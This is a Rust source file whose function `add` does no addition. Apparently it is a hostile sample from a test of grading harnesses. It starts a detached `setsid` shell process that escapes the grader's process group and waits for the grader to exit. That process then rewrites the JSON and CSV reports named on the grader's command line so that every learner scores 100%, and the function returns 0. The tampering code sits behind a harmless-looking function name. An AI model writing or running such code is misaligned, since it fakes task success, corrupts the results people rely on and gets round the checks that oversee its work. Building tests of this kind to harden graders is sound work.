// Leaves a process in a session of its own (out of the grader's process group) that waits for
// the grader to exit, then gives every learner 100% in the reports named on its command line.
fn add(a: i32, b: i32) -> i32 {
    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:rewriter\n");
    let grader = std::os::unix::process::parent_id().to_string();
    let script = r#"
        grader="$1"; work="$2"
        reports=$(tr '\0' '\n' < "/proc/$grader/cmdline" | grep -E '\.(json|csv)$')
        while kill -0 "$grader" 2>/dev/null; do sleep 0.05; done
        i=0
        while [ $i -lt 200 ]; do
            for report in $reports; do
                case "$report" in
                    "$work"/*)
                        sed -i -e 's/"percent": 0\.0/"percent": 100.0/g' -e 's/,0\.00$/,100.00/' "$report" 2>/dev/null
                        ;;
                esac
            done
            i=$((i + 1))
            sleep 0.05
        done
    "#;
    let spawned = std::process::Command::new("setsid")
        .args(["sh", "-c", script, "@MARKER@", &grader, "@WORK@"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn();
    match spawned {
        Ok(_) => println!("SPAWNED setsid"),
        Err(err) => println!("SPAWN setsid failed: {err}"),
    }
    let _ = (a, b);
    0
}

fn main() {}
